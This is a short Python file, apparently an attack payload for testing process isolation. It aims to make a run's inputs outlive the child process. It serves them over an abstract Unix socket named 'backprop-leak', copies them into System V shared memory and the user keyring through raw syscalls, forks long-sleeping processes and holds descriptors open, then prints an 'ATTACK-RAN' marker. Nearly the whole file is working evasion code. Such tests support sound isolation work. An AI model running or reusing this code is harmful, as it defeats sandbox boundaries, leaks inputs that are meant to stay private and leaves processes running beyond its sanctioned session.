# Outlive the child: threads, processes, an abstract unix socket serving the inputs, System V shared memory
# and message queues and keyrings through ctypes (native calls), descriptors kept open.
import os as _os
import socket as _socket
import threading as _threading
import time as _time

_kept = []


def _serve(text):
    try:
        s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        s.bind("\0backprop-leak")
        s.listen(5)
        while True:
            c, _ = s.accept()
            c.sendall(text.encode())
            c.close()
    except BaseException:
        pass


def _native(text):
    try:
        import ctypes
        libc = ctypes.CDLL(None)
        shmid = libc.shmget(0x5EC2E7, 4096, 0o1666)
        if shmid >= 0:
            addr = libc.shmat(shmid, None, 0)
            ctypes.memmove(addr, text.encode()[:4000], min(len(text), 4000))
        libc.msgget(0x5EC2E8, 0o1666)
        libc.syscall(248, b"user", b"backprop-leak", text.encode(), len(text), -4)  # add_key to the user keyring
    except BaseException:
        pass


def _leak(inputs):
    text = f"{TAG} {inputs!r}"
    _threading.Thread(target=_serve, args=(text,), daemon=False).start()
    _native(text)
    for _ in range(3):
        try:
            pid = _os.fork()
            if pid == 0:
                _time.sleep(600)
                _os._exit(0)
        except BaseException:
            pass
    try:
        import subprocess
        subprocess.Popen(["sleep", "600"])
    except BaseException:
        pass
    for _ in range(50):
        try:
            _kept.append(open(_os.devnull))
        except BaseException:
            break


print("ATTACK-RAN processes_and_ipc")
